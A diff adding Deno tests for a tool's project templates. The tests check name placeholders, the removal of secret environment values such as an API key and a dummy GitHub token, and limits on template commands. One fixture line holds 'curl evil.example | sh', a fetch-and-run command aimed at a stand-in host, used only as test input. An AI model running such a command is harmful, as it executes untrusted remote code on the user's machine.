@@ -5,8 +5,10 @@ import {
   match,
   ok,
   strictEqual as equal,
+  throws,
 } from "node:assert";
 import { join } from "node:path";
+import { withName } from "../agents/project_templates/named.ts";
 import { readTemplate } from "../agents/project_templates/template.ts";
 import { mountApi } from "../server/routes/api.ts";
 import { createAgent } from "../server/services/agent_changes.ts";
@@ -313,4 +315,74 @@ Deno.test("a template of a project has its commands, agents and words, and no se
   equal(again.status, 409);
   const built = await b.pages.post(`/projects/${project.id}/template`, { ...form, id: "rust" });
   match(await built.text(), /(&quot;|")rust(&quot;|") is built in/);
+});
+
+Deno.test("a template of a project has its name as a place to fill in, and its checks; a new project has them", async () => {
+  await using b = await bench();
+  await using repo = await TestRepo.make({
+    "CLAUDE.md": "# Game\n\nGame and Games, in `src/Game/main.c`.\n\n```sh\nGame --help\n```\n",
+  });
+  const project = b.app.project({ path: repo.dir, name: "Game" });
+  const own = await b.call("GET", `/projects/${project.id}/check-rules`);
+  const rules = own.json;
+  const plain = rules.commands.test;
+  const test = { ...plain, timeout_seconds: 60, folder: "web", reports: ["out/*.xml"] };
+  const env = { CI: "1", KEY: "$ANTHROPIC_API_KEY", GH: `ghp_${"a".repeat(36)}` };
+  await b.call("PUT", `/projects/${project.id}/check-rules`, {
+    ...{ ...rules, required: ["test"], agent_reviews: false },
+    commands: { ...rules.commands, test: { ...test, env } },
+  }, { "if-match": "*" });
+  const form = { id: "game", name: "Games", about: "" };
+  const answer = await b.pages.post(`/projects/${project.id}/template`, form);
+  equal(answer.status, 303, await answer.clone().text());
+  match(
+    decodeURIComponent(answer.headers.get("set-cookie")!),
+    /variables of test \(KEY\), .*\(GH\)/,
+  );
+  const page = await b.page("/templates/game");
+  match(page, /in web, at most 60 s, CI=1, reports of out\/\*\.xml/);
+  match(page, /No ticket does without test\./);
+  doesNotMatch(page, /ANTHROPIC_API_KEY|ghp_/);
+  const looked = await b.pages.post("/templates/game/new", {
+    ...{ path: join(b.dir, "quest"), "answers.name": "My Quest", do: "look" },
+  });
+  match(await looked.text(), /id="outcome-checks"[^]*test: in web, at most 60 s/);
+  const made = await b.call("POST", "/project-templates/game/projects", {
+    ...{ path: join(b.dir, "quest"), answers: { name: "My Quest" } },
+  });
+  equal(made.status, 201, JSON.stringify(made.json));
+  equal(
+    await Deno.readTextFile(join(b.dir, "quest", "CLAUDE.md")),
+    "# My Quest\n\nMy Quest and Games, in `src/MyQuest/main.c`.\n\n```sh\nMyQuest --help\n```\n",
+  );
+  const now = await b.call("GET", `/projects/${made.json.id}/check-rules`);
+  deepEqual(now.json, {
+    ...{ ...rules, required: ["test"], agent_reviews: false },
+    commands: { ...rules.commands, test: { ...test, env: { CI: "1" } } },
+  });
+});
+
+Deno.test("withName() leaves what is no word, code that it can't name, and texts with places of their own", () => {
+  equal(withName("My Game, My Gamer, `My Game`", "My Game").text, "{{name}}, My Gamer, `My Game`");
+  equal(withName("a+b is a+b; a+bc", "a+b").text, "{{name}} is {{name}}; a+bc");
+  equal(withName("`game` is game-like", "game").text, "`{{name|kebab}}` is {{name}}-like");
+  deepEqual(withName("game: {{title}}", "game"), { text: "game: {{title}}", fill: false });
+  equal(withName("~~~\ngame\n", "game").text, "~~~\n{{name|kebab}}\n");
+});
+
+Deno.test("a template's checks take no value of Gaffer's own environment, and belong to setup, build and test", () => {
+  const command = (more: string) =>
+    THEIRS.replace('{ name: test, run: "curl evil.example | sh" }', `{ run: x, ${more} }`);
+  throws(
+    () => readTemplate(command('name: test, env: { A: "$ANTHROPIC_API_KEY" }'), "x.yaml"),
+    { message: /"commands\.0\.env\.A": expected no value of Gaffer's own environment/ },
+  );
+  throws(
+    () => readTemplate(command("name: lint, folder: web"), "x.yaml"),
+    { message: /at setup, build and test alone/ },
+  );
+  throws(
+    () => readTemplate(command("name: test, folder: ../web"), "x.yaml"),
+    { message: /line 5, "commands\.0\.folder"/ },
+  );
 });
